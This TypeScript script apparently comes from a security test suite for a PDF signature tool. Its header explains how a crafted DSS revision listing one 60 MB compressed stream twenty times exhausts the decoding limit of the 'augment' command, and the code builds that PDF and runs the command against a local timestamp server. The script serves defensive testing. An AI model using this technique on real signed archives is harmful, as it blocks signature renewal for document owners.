// A4's fix (cafc511) has augment's writer read the latest DSS leniently, but item by item as listed: writeDss's
// `read` decodes every reference of /Certs, /OCSPs and /CRLs again, with no memory of a stream already read, and
// each decode counts against the document's maxTotalDecodedBytes (1 GiB). One stream that inflates to 60 MB (60 kB
// in the file), listed 20 times in an appended LTV-only DSS revision, is read once by verify's one DSS reading
// (evidence/dss-items.ts keys streams by object and defining revision: junk, a warning) and 20 times by augment,
// which then stops at the limit: renewal is blocked by anyone who can append a revision (A4's reach).
//   npx tsx scripts/attack-s8/augment-repeat.ts [repeat|honest] [times]
// repeat: samples/valid/archive.pdf plus one revision whose DSS /Certs lists one 60 MB stream of zero bytes 20 times
// (a 64 kB revision). honest: the same stream listed once. Each is verified, then given to the CLI `augment` with the
// loopback TSA (scripts/generator/servers.ts) and the TSA CA's current "good" as --ocsp.
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { writeFileSync } from "node:fs";
import { createOcspResponse } from "../generator/ocsp.js";
import { startTsa } from "../generator/servers.js";
import { pki, sample, save, show, verify, work } from "../attack36/lib.js";
import { withRepeatedStream } from "./lib.js";

const mode = process.argv[2] ?? "repeat";
if (!["repeat", "honest"].includes(mode)) throw new Error(`mode: repeat|honest, not ${mode}`);
const times = Number(process.argv[3] ?? (mode === "repeat" ? 20 : 1));
const P = pki();
const dir = work(`s8-augment-repeat-${mode}`);
const pdf = withRepeatedStream(sample("valid/archive.pdf"), new Uint8Array(60 * 1024 * 1024), times);
const file = save(dir, "archive.pdf", pdf);
console.log(`wrote ${file} (${mode}: one 60 MB stream listed ${times} times in the DSS's /Certs; ${pdf.length} bytes)`);
show(mode, verify(file));
const current = createOcspResponse({ subject: P.tsa, issuer: P.tsaRoot, responder: P.tsaRoot, producedAt: new Date(Date.now() - 3600_000) });
writeFileSync(`${dir}/tsa.ocsp`, current);
const tsa = await startTsa(P.tsa);
try {
  const t0 = Date.now();
  const r = await promisify(execFile)(
    "node",
    ["dist/cli/main.js", "augment", file, "--out", `${dir}/renewed.pdf`, "--tsa", tsa.url, "--trust", "samples/trust", "--ocsp", `${dir}/tsa.ocsp`],
    { encoding: "utf8" },
  ).then(
    (x) => ({ status: 0, stdout: x.stdout, stderr: x.stderr }),
    (e: { code?: number; stdout?: string; stderr?: string }) => ({ status: e.code ?? -1, stdout: e.stdout ?? "", stderr: e.stderr ?? "" }),
  );
  console.log(`== sealcheck augment (${Date.now() - t0} ms): exit ${r.status}: ${`${r.stdout}${r.stderr}`.trim().split("\n").slice(0, 3).join(" | ")}`);
} finally {
  await tsa.close();
}
if (mode === "honest") show("renewed", verify(`${dir}/renewed.pdf`));
